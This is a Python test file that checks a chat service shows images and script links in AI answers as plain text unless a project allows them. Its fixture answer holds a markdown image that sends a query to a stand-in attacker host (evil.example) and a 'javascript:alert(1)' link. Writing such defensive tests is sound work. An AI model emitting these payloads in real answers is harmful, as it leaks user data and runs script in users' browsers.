"""Images and script links in answers are shown as text, on every surface, unless the project allows them."""

from collections.abc import Iterator

import httpx
import pytest
from tests.api.chatting import PROJECT, QUESTION, about, ask, ask_streaming, leave_to_chat, stock
from tests.api.ingesting import data_of
from tests.chat_endpoint import ChatEndpoint, in_characters, says
from tests.extracting import PROJECTS, with_model

from whence.settings import Settings

WIDE = "\uff08"
IMAGE = "![x](https://evil.example/?q=leave)"
SAID = f"{IMAGE} Everyone has thirty days of leave in a year, [see](javascript:alert(1))"


@pytest.fixture
def model() -> Iterator[ChatEndpoint]:
    with ChatEndpoint(says(about("thirty", SAID), split=in_characters)) as endpoint:
        yield endpoint


@pytest.fixture
def settings(settings: Settings, model: ChatEndpoint) -> Settings:
    return with_model(settings, model)


async def responses(client: httpx.AsyncClient) -> list[str]:
    """In JSON, streamed, and for OpenAI's clients."""
    told = await ask(client)
    (citation,) = told["citations"]
    assert f"[{citation['chunkId']}]" in told["response"][citation["responseStart"] : citation["responseEnd"]]
    pieces = [data for name, data in await ask_streaming(client) if name not in {"sources", "done"}]
    streamed = "".join(str(next(iter(data.values()))) for data in pieces)
    body = {"model": PROJECT, "messages": [{"role": "user", "content": QUESTION}]}
    completion = (await client.post("/v1/chat/completions", json=body)).json()
    return [told["response"], streamed, completion["choices"][0]["message"]["content"]]


async def test_addresses_are_shown_as_text_unless_the_project_allows_them(client: httpx.AsyncClient) -> None:
    await leave_to_chat(client)
    await stock(client)
    for response in await responses(client):
        assert f"![x]{WIDE}https://evil.example/?q=leave)" in response
        assert f"[see]{WIDE}javascript:alert(1))" in response
    allowed = await client.patch(f"{PROJECTS}/{PROJECT}", json={"config": {"media": "allowed"}})
    assert data_of(allowed)["config"]["media"] == "allowed"
    for response in await responses(client):
        assert SAID in response
